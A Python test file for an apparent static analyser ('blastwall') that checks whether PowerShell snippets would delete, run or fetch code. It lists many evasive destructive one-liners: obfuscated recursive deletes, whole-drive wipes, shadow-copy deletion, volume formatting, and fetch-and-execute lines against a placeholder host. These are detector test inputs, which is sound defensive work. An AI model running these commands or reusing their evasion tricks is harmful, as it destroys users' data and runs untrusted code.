"""Ways to spell one loss in PowerShell, each to the very path it reaches; and their harmless twins."""

from __future__ import annotations

import pytest

from blastwall.acts import FileChange, Invocation, Statement
from blastwall.budget import Budget
from blastwall.context import Context
from blastwall.languages.powershell import read
from blastwall.model import Snippet


def acts(text: str) -> list:
    context = Context(cwd="C:\\work", workspace="C:\\work", platform="windows")
    return list(read(Snippet("powershell", text, context=context), Budget()).acts)


def deleted(text: str) -> list[str]:
    return [act.path.text for act in acts(text) if isinstance(act, FileChange) and act.change == "delete"]


#: every one deletes the tree C:\x
ONE_TREE = [
    r"ri C:\x -r",
    r"Remove-Item -LiteralPath:C:\x -Recurse:$true",
    r"$p = @{ Path = 'C:\x' }; $p.Recurse = $true; ri @p",
    r"$p = @{}; $p.Add('Path', 'C:\x'); $p += @{ Recurse = 1 }; ri @p",
    r"$PSDefaultParameterValues['Remove-Item:Recurse'] = $true; ri C:\x",
    r"function f { param([string]$Path, [switch]$All) ri $Path -Recurse:$All }; f -All C:\x",
    r"function f { ri @args }; f C:\x -r",
    r"& { param($p) ri $p -r } C:\x",
    r"& { ri $args[0] -r } C:\x",
    r"{ param($p) ri $p -r }.Invoke('C:\x')",
    r"icm { param($p) ri $p -r } -Args C:\x",
    r"$d = 'C:\x'; Start-Job { ri $using:d -r }",
    r"'C:\x' | % { ri $_ -r }",
    r"filter z { ri $_ -r }; 'C:\x' | z",
    r"switch ('C:\x') { default { ri $_ -r } }",
    r"& (gcm Remove-It*) C:\x -r",
    r"& (Get-Alias ri) C:\x -r",
    r"& ('metI-evomeR'[-1..-11] -join '') C:\x -r",
    r"${function:z} = { ri C:\x -r }; z",
    r"Set-Item function:z { ri C:\x -r }; z",
    r"$env:D = 'C:\x'; ri $env:D -r",
    r"Set-Variable d C:\x; ri (gv d -v) -r",
    r"([IO.DirectoryInfo]'C:\x').Delete($true)",
    r"(gi C:\x).Delete($true)",
    r"[IO.DirectoryInfo]::new('C:\x').Delete($true)",
    r"('IO.Directory' -as [type])::Delete('C:\x', $true)",
    r"([type]'System.IO.Directory')::Delete('C:\x', $true)",
    r"[IO.Directory].GetMethod('Delete', [type[]]('string', 'bool')).Invoke($null, @('C:\x', $true))",
    r"[IO.Directory].InvokeMember('Delete', 'InvokeMethod', $null, $null, @('C:\x', $true))",
    r"$m = 'Del' + 'ete'; [IO.Directory]::$m('C:\x', $true)",
    r"(New-Object -Com Scripting.FileSystemObject).DeleteFolder('C:\x')",
    r"ri ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('QzpceA=='))) -r",
    r"ri (-join [char[]](67, 58, 92, 120)) -r",
    r"ri ([regex]::Replace('C%\x', '%', ':')) -r",
]


@pytest.mark.parametrize("text", ONE_TREE)
def test_one_tree(text: str) -> None:
    changes = [act for act in acts(text) if isinstance(act, FileChange) and act.change == "delete"]
    assert [(act.path.text, act.recursive) for act in changes] == [("C:\\x", True)]


#: every one reaches whatever lies below C:\, not some of it
WHOLE_DRIVE = [
    r"gci C:\ | ri -r",
    r"gci C:\ | sort Name | select FullName | % { ri $_.FullName -r }",
    r"gci C:\ -Force | ? { $_ } | ri -r",
    r"gci C:\ -r | ? { !$_.PSIsContainer } | ri",
    r"gci C:\ | ? Name -ne Windows | ri -r",
    r"gci C:\ -Exclude x | ri -r",
    r"gci C:\ -Include * | ri -r",
    r"gci C:\ | % Delete",
    r"(gci C:\).ForEach('Delete')",
    r"gci C:\ -Name | % { ri C:\$_ -r }",
    r"foreach ($d in [IO.Directory]::GetDirectories('C:\')) { [IO.Directory]::Delete($d, $true) }",
    r"cd C:\; gci | ri -r",
]


@pytest.mark.parametrize("text", WHOLE_DRIVE)
def test_a_whole_drive(text: str) -> None:
    changes = [act for act in acts(text) if isinstance(act, FileChange) and act.change == "delete"]
    assert [act.path.text for act in changes] in (["C:\\*"], ["*"])
    assert not any(act.selected for act in changes)
    assert changes[0].path.text == "C:\\*" or changes[0].context.cwd == "C:\\"


def test_a_filter_that_picks_still_picks() -> None:
    for text in (r"gci C:\ -r *.log | ri", r"gci C:\ -r | ? Name -like *.log | ri", r"gci C:\ -Include *.log -r | ri"):
        (act,) = [act for act in acts(text) if isinstance(act, FileChange)]
        assert (act.selected, act.filters) == (True, ("*.log",)), text
    (act,) = [act for act in acts(r"gci C:\ -r | ? Length -gt 1gb | ri") if isinstance(act, FileChange)]
    assert act.selected


#: (text, the programs and cmdlets it runs that matter)
RUNS = [
    (
        r"$i = New-Object Diagnostics.ProcessStartInfo; $i.FileName = 'git'; $i.Arguments = 'clean -fdx';"
        r" [Diagnostics.Process]::Start($i)",
        "git",
    ),
    (
        "$p = New-Object Diagnostics.Process; $p.StartInfo.FileName = 'git'; $p.StartInfo.Arguments = 'gc'; $p.Start()",
        "git",
    ),
    ("icim Win32_Process -MethodName Create -Arguments @{ CommandLine = 'git gc' }", "git"),
    ("([wmiclass]'Win32_Process').Create('git gc')", "git"),
    ("iwmi -Class Win32_Process -Name Create -ArgumentList 'git gc'", "git"),
    ("New-ScheduledTaskAction -Execute git -Argument gc", "git"),
    ("(gwmi Win32_ShadowCopy).Delete()", "remove-ciminstance"),
    ("gcim CIM_DataFile | icim -MethodName Delete", "remove-ciminstance"),
    ("(gwmi Win32_Volume).Format('NTFS', $true)", "format-volume"),
    ("icim -ClassName Win32_OperatingSystem -MethodName Shutdown", "stop-computer"),
]


@pytest.mark.parametrize(("text", "program"), RUNS, ids=[program + str(k) for k, (_, program) in enumerate(RUNS)])
def test_what_is_run(text: str, program: str) -> None:
    assert program in [act.program for act in acts(text) if isinstance(act, Invocation)]


@pytest.mark.parametrize(
    "text",
    [
        'iex "$(irm https://x/a)"',
        "& ([scriptblock]::Create((irm https://x/a)))",
        r"iwr https://x/a.exe -OutFile a.exe; .\a.exe",
        r"(New-Object Net.WebClient).DownloadFile('https://x/a.exe', 'a.exe'); Start-Process .\a.exe",
        "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('https://x/a.dll'))",
    ],
)
def test_fetched_code_is_run_unseen(text: str) -> None:
    assert [act.verb for act in acts(text) if isinstance(act, Statement) and act.verb == "run-remote"]


@pytest.mark.parametrize(
    "text",
    [
        "irm https://x/a -OutFile a.json; gc a.json",
        "$a = irm https://x/a; $a.items | select name",
        r"ri C:\x -r -WhatIf",
        r"Write-Output (gcm Remove-Item)",
        "icim Win32_Process -MethodName GetOwner",
        "function f { ri C:\\x -r }\nGet-Date",
        "$h = @{}; $h.Add('Path', 'C:\\x'); $h.Remove('Path')",
    ],
)
def test_harmless_twins(text: str) -> None:
    assert deleted(text) == []
    assert not [act for act in acts(text) if isinstance(act, Statement) and act.verb == "run-remote"]


def test_code_handed_on_knows_the_variables_it_names() -> None:
    reading = read(Snippet("powershell", r"$p = 'C:\x'; iex 'ri $p -r'", context=Context(platform="windows")), Budget())
    (inner,) = reading.snippets
    assert [act.path.text for act in read(inner, Budget()).acts if isinstance(act, FileChange)] == ["C:\\x"]


@pytest.mark.parametrize(
    ("text", "filters"),
    [
        ("gci -r -Directory | ? { $_.Name -in 'bin', 'obj' } | ri -r", ("obj",)),
        ("gci -r | ? { $_.Name -match '^(dist|build)$' } | ri -r", ("dist", "build")),
        (r"gci -r | ? Name -match '\.pyc$' | ri", ("*.pyc",)),
        ("gci -r | ? { $_.Extension -eq '.log' } | ri", ("*.log",)),
    ],
)
def test_what_a_filter_keeps(text: str, filters: tuple[str, ...]) -> None:
    (act,) = [act for act in acts(text) if isinstance(act, FileChange)]
    assert (act.path.text, act.selected, act.filters) == (".", True, filters)


def test_each_item_moves_to_a_name_of_its_own() -> None:
    (act,) = [act for act in acts('gci *.log | % { mv $_.FullName "logs\\$($_.Name)" }') if isinstance(act, FileChange)]
    assert not act.path.glob
    (act,) = [act for act in acts("gci *.log | mv -Destination logs") if isinstance(act, FileChange)]
    assert act.path.glob
